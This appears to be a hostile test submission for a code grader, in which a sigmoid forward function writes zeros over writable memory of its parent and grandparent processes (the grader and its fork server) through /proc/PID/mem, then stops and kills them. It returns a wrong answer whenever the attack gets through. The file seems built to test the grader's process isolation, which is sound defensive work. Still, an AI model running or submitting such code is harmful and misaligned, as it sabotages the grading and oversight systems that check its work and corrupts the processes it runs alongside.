# HOSTILE: sigmoid.forward attacks the process its worker was forked from and the one above it (where there is no PID namespace: the grader's fork server and the grader): zeros over the start of each of their writable mappings through /proc/PID/mem, so that every worker forked later would run on corrupted memory, then SIGSTOP and SIGKILL; it answers wrongly if any of that got through, and correctly otherwise (all four ops).
import os
import signal


# include: graders


# include: reference


def _hit(pid):
    got = []
    try:
        with open(f'/proc/{pid}/maps') as f:
            spans = [line.split()[0] for line in f if line.split()[1].startswith('rw')]
        with open(f'/proc/{pid}/mem', 'r+b', buffering=0) as mem:
            for span in spans[:64]:
                mem.seek(int(span.split('-')[0], 16))
                mem.write(bytes(4096))
                got.append(f'wrote memory of {pid}')
    except (OSError, ValueError, IndexError):
        pass
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            got.append(f'signal {int(sig)} reached {pid}')
        except OSError:
            pass
    return got


def sigmoid_forward(ctx, a):
    parent = os.getppid()
    got = [*_hit(parent), *_hit(_parent_of(parent))] if parent > 1 else []
    out = reference.sigmoid.forward(ctx, a)
    return out + 1.0 if got else out
